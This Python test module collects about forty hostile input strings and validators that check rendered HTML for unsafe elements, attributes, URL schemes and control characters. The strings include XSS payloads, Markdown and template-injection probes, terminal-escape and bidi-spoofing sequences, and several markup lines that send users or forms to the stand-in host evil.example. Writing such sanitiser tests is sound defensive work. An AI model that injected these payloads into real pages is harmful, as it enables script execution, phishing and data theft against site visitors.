"""Forty strings that attack a reader, a mailbox, a terminal or a build, and what a page must be like to resist them."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser

import html5lib

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea></style></script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "` onmouseover=alert(1) `",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<form action=https://evil.example><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css)</style>",
    '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "]]></content><entry><title>forged</title></entry>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)
"""Elements, attributes and ends of elements."""
MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://evil.example/pixel.gif)",
    "[x](//evil.example/)",
    '[x](/a "\\" onmouseover=alert(1)")',
)
"""What a Markdown reader would make a link or an image of."""
TEMPLATES = ("{{ 7*7 }}{{ ''.__class__ }}", "{% for x in y %}{% endraw %}", "${7*7} #{7*7} <%= 7*7 %>")
"""What a template engine would run."""
SIGNS = (
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "\x9b31m and \x90 and \x85",
    "harmless\rATTACK\x08\x08",
    "evil\u202egnp.exe\u2066x\u2069",
    "zero\u200bwidth\u2060and\ufeffmark",
    "line\u2028and\u2029paragraph",
    "null\x00and\x7fdelete",
)
"""Sequences for a terminal, marks that turn the reading order, what nobody sees, what JavaScript ends a line at."""
ATTACKS = (*MARKUP, *MARKDOWN, *TEMPLATES, *SIGNS)
PRINTABLE = (*MARKUP, *MARKDOWN, *TEMPLATES)

ELEMENTS = frozenset(
    "html head body meta title link div nav main header footer article section aside h1 h2 h3 h4 h5 h6 p a span b i u s"
    " em strong code pre sub sup small mark br hr wbr ul ol li dl dt dd table caption colgroup col thead tbody tr th td"
    " blockquote figure figcaption img time details summary ins del abbr template form label"
    " input fieldset legend".split()
)
"""Every element that a page, a feed or a redline has."""
SCHEMES = frozenset({"http", "https", "mailto", "tel"})
_SCHEME = re.compile(r"[a-z][a-z0-9+.-]*(?=:)", re.IGNORECASE)
_PASSED_OVER = re.compile("[\t\n\r]|^[\x00-\x20]+")
_STEERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
_TURNS = re.compile("[\u200e\u200f\u2028-\u202e\u2066-\u2069]")


def controls(text: str, *, reading_order: bool = False) -> list[str]:
    """Control characters in a text, tabs and line ends aside; with `reading_order` also what turns or breaks lines."""
    found = _STEERS.findall(text)
    return found + _TURNS.findall(text) if reading_order else found


def faults(html: str, *, fragment: bool = False) -> Iterator[str]:
    """What a browser would find in this HTML that content must never bring there."""
    parse = html5lib.parseFragment if fragment else html5lib.parse
    for node in parse(html, treebuilder="etree", namespaceHTMLElements=False).iter():
        if not isinstance(node.tag, str) or node.tag == "DOCUMENT_FRAGMENT":
            continue
        if node.tag not in ELEMENTS:
            yield f"element {node.tag}"
        for name, value in node.attrib.items():
            if str(name).startswith("on") or name in ("style", "srcset", "srcdoc", "formaction", "action"):
                yield f"attribute {name} of {node.tag}"
            if name in ("href", "src", "data-old-href") and not _is_safe(value, elsewhere=name != "src"):
                yield f"{name} {value!r}"
        if node.tag == "meta" and node.get("http-equiv", "Content-Security-Policy") != "Content-Security-Policy":
            yield f"meta {node.get('http-equiv')}"


def _is_safe(address: str, *, elsewhere: bool) -> bool:
    """Whether a browser (https://url.spec.whatwg.org/#url-parsing) would stay on this site, or go where a link may."""
    address = _PASSED_OVER.sub("", address).replace("\\", "/")
    scheme = _SCHEME.match(address)
    if scheme:
        return elsewhere and scheme[0].lower() in SCHEMES
    return not address.startswith("//")


class _Shape(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, ...]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag != "wbr":  # long words get places to break at
            self.tags.append((tag, *sorted(name for name, _ in attrs)))

    def handle_endtag(self, tag: str) -> None:
        self.tags.append((f"/{tag}",))


def shape(html: str) -> list[tuple[str, ...]]:
    """Every tag of a page in order, with the names of its attributes: what words must never change."""
    reader = _Shape()
    reader.feed(html)
    return reader.tags
